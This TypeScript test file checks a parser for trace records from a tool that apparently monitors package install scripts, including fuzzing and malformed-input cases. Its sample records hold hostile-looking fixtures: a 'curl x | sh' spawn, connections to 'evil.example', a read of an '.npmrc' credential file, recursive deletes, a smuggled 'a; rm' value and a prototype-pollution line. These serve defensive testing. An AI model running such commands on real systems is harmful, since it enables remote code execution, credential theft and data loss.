// parsePreloadLine: the record files are written from inside the code being
// watched, so a line may be anything. Well-formed records parse to exactly
// their known fields; everything else is rejected without throwing.
import { describe, expect, it } from 'vitest';
import { recordToEvents } from '../../../src/tracers/preload/index.js';
import { MAX_LINE, parsePreloadLine, type PreloadRecord } from '../../../src/tracers/preload/records.js';
import { mulberry32 } from '../strace/fuzz-gen.js';
import { sandbox } from './helpers.js';

const HEAD = { t: 1800000000123.5, pid: 4321, ppid: 4300, script: '4242-1' };
const line = (fields: Record<string, unknown>): string => JSON.stringify({ ...HEAD, ...fields });

// One well-formed record per op, as the preload writes them.
export const SAMPLES: Array<Record<string, unknown>> = [
  { op: 'start', exe: '/usr/bin/node', argv0: 'node', argv: ['/usr/bin/node', '/p/install.js'], execArgv: [], cwd: '/p' },
  { op: 'start', exe: '/usr/bin/node', argv0: 'node', argv: ['/usr/bin/node', '/p/install.js'], execArgv: [], cwd: '/p', cmdline: ['node', 'install.js'] },
  { op: 'spawn', call: 'spawn', file: '/bin/sh', args: ['/bin/sh', '-c', 'curl x | sh'], cwd: '/p', exe: '/bin/sh', child: 4400 },
  { op: 'spawn', call: 'execSync', file: '/bin/sh', args: ['/bin/sh', '-c', 'id'], cwd: '/p', exe: '/bin/sh', sync: true },
  { op: 'spawn', call: 'spawn', file: 'nope', args: ['nope'], cwd: '/p', error: 'ENOENT' },
  { op: 'connect', call: 'net.connect', transport: 'tcp', ip: '203.0.113.45', port: 443, family: 4, host: 'evil.example' },
  { op: 'connect', call: 'dgram.send', transport: 'udp', port: 53, host: 'resolver.example' },
  { op: 'connect', call: 'net.connect', transport: 'unix', path: '/var/run/docker.sock' },
  { op: 'dns', call: 'lookup', host: 'evil.example', addresses: ['203.0.113.45', '2001:db8::1'] },
  { op: 'dns', call: 'Resolver.resolveTxt', host: 'x.evil.example', rrtype: 'TXT', addresses: [], servers: ['8.8.8.8'], error: 'ENOTFOUND' },
  { op: 'unlink', call: 'unlinkSync', path: '/p/install.js' },
  { op: 'rmdir', call: 'rmdir', path: '/p/lib', recursive: true },
  { op: 'rm', call: 'rmSync', path: '/p', recursive: true, dir: true },
  { op: 'rename', call: 'renameSync', from: '/p/package.json', to: '/p/package.md' },
  { op: 'write', call: 'openSync', path: '/p/x', flags: 'w' },
  { op: 'write', call: 'openSync', path: '/p/x', flags: 1089 },
  { op: 'write', call: 'copyFileSync', path: '/p/y', flags: 'wx', source: '/p/x' },
  { op: 'truncate', call: 'truncateSync', path: '/p/x' },
  { op: 'symlink', call: 'symlinkSync', target: '../x', path: '/p/l' },
  { op: 'link', call: 'linkSync', target: '/p/x', path: '/p/h' },
  { op: 'mkdir', call: 'mkdirSync', path: '/p/a/b', recursive: true, first: '/p/a' },
  { op: 'mkdir', call: 'mkdtempSync', path: '/tmp/x-abc123', prefix: true },
  { op: 'chmod', call: 'chmodSync', path: '/tmp/x', mode: 0o755 },
  { op: 'read', call: 'readFileSync', path: '/home/u/.npmrc' },
  { op: 'exit', code: 3 },
];

describe('parsePreloadLine', () => {
  it('parses every op the preload writes, keeping exactly the known fields', () => {
    for (const sample of SAMPLES) {
      const r = parsePreloadLine(line(sample));
      expect(r, JSON.stringify(sample)).toEqual({ ...HEAD, ...sample });
    }
    // with a thread id, trailing whitespace and a CR
    expect(parsePreloadLine(`${line({ op: 'exit', code: 0, thread: 2 })} \r`)).toMatchObject({ op: 'exit', thread: 2 });
  });

  it('drops unknown fields and never hands back the parsed object', () => {
    const r = parsePreloadLine(line({ op: 'unlink', path: '/p/x', extra: 'x', constructor: 'y' }));
    expect(r).toEqual({ ...HEAD, op: 'unlink', path: '/p/x' });
    const proto = parsePreloadLine(`{"__proto__":{"polluted":1},${line({ op: 'unlink', path: '/p/x' }).slice(1)}`);
    expect(proto).toEqual({ ...HEAD, op: 'unlink', path: '/p/x' });
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getPrototypeOf(proto)).toBe(Object.prototype);
  });

  const BAD: Array<[string, string]> = [
    ['empty', ''],
    ['not json', '{op: unlink}'],
    ['an array', '[1,2]'],
    ['a string', '"x"'],
    ['null', 'null'],
    ['truncated', line({ op: 'unlink', path: '/p/x' }).slice(0, -3)],
    ['unknown op', line({ op: 'format-disk', path: '/' })],
    ['missing op', JSON.stringify(HEAD)],
    ['t not a number', line({ t: '1', op: 'exit', code: 0 })],
    ['t beyond a valid date', line({ t: 9e15, op: 'exit', code: 0 })],
    ['t NaN-ish', '{"t":1e999,"pid":1,"ppid":0,"script":"s","op":"exit","code":0}'],
    ['pid zero', line({ pid: 0, op: 'exit', code: 0 })],
    ['pid fractional', line({ pid: 1.5, op: 'exit', code: 0 })],
    ['pid too big', line({ pid: 2 ** 40, op: 'exit', code: 0 })],
    ['negative ppid', line({ ppid: -1, op: 'exit', code: 0 })],
    ['script id with a slash', line({ script: '../x', op: 'exit', code: 0 })],
    ['script id too long', line({ script: 'x'.repeat(65), op: 'exit', code: 0 })],
    ['relative path', line({ op: 'unlink', path: 'install.js' })],
    ['path with NUL', line({ op: 'unlink', path: '/p/\0x' })],
    ['path too long', line({ op: 'unlink', path: `/${'a'.repeat(5000)}` })],
    ['path not a string', line({ op: 'unlink', path: ['/p'] })],
    ['rename without from', line({ op: 'rename', to: '/p/x' })],
    ['spawn args not strings', line({ op: 'spawn', file: 'x', args: [1], cwd: '/' })],
    ['spawn with 300 args', line({ op: 'spawn', file: 'x', args: Array(300).fill('a'), cwd: '/' })],
    ['spawn child 0', line({ op: 'spawn', file: 'x', args: [], cwd: '/', child: 0 })],
    ['connect with a bad transport', line({ op: 'connect', transport: 'sctp', ip: '1.1.1.1', port: 1 })],
    ['connect with a bad ip', line({ op: 'connect', transport: 'tcp', ip: '1.1.1.1.1', port: 1 })],
    ['connect with port 70000', line({ op: 'connect', transport: 'tcp', ip: '1.1.1.1', port: 70000 })],
    ['tcp connect without a port', line({ op: 'connect', transport: 'tcp', ip: '1.1.1.1' })],
    ['tcp connect without ip or host', line({ op: 'connect', transport: 'tcp', port: 1 })],
    ['unix connect without a path', line({ op: 'connect', transport: 'unix' })],
    ['dns with a non-ip address', line({ op: 'dns', host: 'x', addresses: ['evil'] })],
    ['dns rrtype lowercase', line({ op: 'dns', host: 'x', addresses: [], rrtype: 'a; rm' })],
    ['write flags object', line({ op: 'write', path: '/p', flags: { w: 1 } })],
    ['error with spaces', line({ op: 'unlink', path: '/p', error: 'E NOENT' })],
    ['call with a slash', line({ op: 'unlink', path: '/p', call: 'a/b' })],
    ['exit code fractional', line({ op: 'exit', code: 0.5 })],
    ['chmod mode beyond 07777', line({ op: 'chmod', path: '/p', mode: 0o17777 })],
    ['boolean field as string', line({ op: 'rm', path: '/p', recursive: 'yes' })],
  ];
  it.each(BAD)('rejects %s', (_name, text) => {
    expect(parsePreloadLine(text)).toBeUndefined();
  });

  it('rejects a line longer than any record the preload writes, without parsing it', () => {
    const long = line({ op: 'spawn', file: 'x', args: [], cwd: '/', pad: 'x'.repeat(MAX_LINE) });
    expect(parsePreloadLine(long)).toBeUndefined();
  });
});

describe('parsePreloadLine under fuzz', () => {
  const CHARS = '{}[]",:0123456789.-eE tfnulrx\\/\u0000\u00e4\ud800"';
  function mutate(text: string, rand: () => number): string {
    const chars = [...text];
    const edits = 1 + Math.floor(rand() * 4);
    for (let i = 0; i < edits; i++) {
      const at = Math.floor(rand() * (chars.length + 1));
      const pick = CHARS[Math.floor(rand() * CHARS.length)] ?? 'x';
      switch (Math.floor(rand() * 3)) {
        case 0:
          chars.splice(at, 1);
          break;
        case 1:
          chars.splice(at, 0, pick);
          break;
        default:
          chars[at] = pick;
      }
    }
    return chars.join('');
  }
  // structured mutation: valid JSON, wrong values
  const VALUES: unknown[] = [null, true, 0, -1, 1e308, 2 ** 53, 'x', '', '/', '/p', '1.2.3.4', [], ['a'], {}, { a: 1 }, 'A'.repeat(5000)];
  function mutateValue(sample: Record<string, unknown>, rand: () => number): string {
    const obj: Record<string, unknown> = { ...HEAD, ...sample };
    const keys = Object.keys(obj);
    const key = keys[Math.floor(rand() * keys.length)] ?? 'op';
    if (rand() < 0.2) delete obj[key];
    else obj[key] = VALUES[Math.floor(rand() * VALUES.length)];
    return JSON.stringify(obj);
  }

  it('never throws over 30,000 mutated lines, and what it accepts is a record events can be built from', () => {
    const rand = mulberry32(20260331);
    const sb = sandbox();
    try {
      let accepted = 0;
      const failures: string[] = [];
      for (let i = 0; i < 30_000; i++) {
        const sample = SAMPLES[i % SAMPLES.length]!;
        const text = i % 3 === 0 ? mutate(line(sample), rand) : i % 3 === 1 ? mutateValue(sample, rand) : String.fromCharCode(...Array.from({ length: Math.floor(rand() * 80) }, () => Math.floor(rand() * 0xffff)));
        let r: PreloadRecord | undefined;
        try {
          r = parsePreloadLine(text);
          if (!r) continue;
          accepted++;
          if (!(Number.isFinite(r.t) && r.pid > 0 && /^[A-Za-z0-9_-]+$/.test(r.script))) failures.push(`bad head: ${text}`);
          // toISOString throws on an invalid date: every accepted record must build
          recordToEvents(r, sb.script);
        } catch (err) {
          failures.push(`${String(err)}: ${text}`);
        }
      }
      expect(failures).toEqual([]);
      expect(accepted).toBeGreaterThan(1000); // value mutations of optional fields still parse
    } finally {
      sb.cleanup();
    }
  });
});
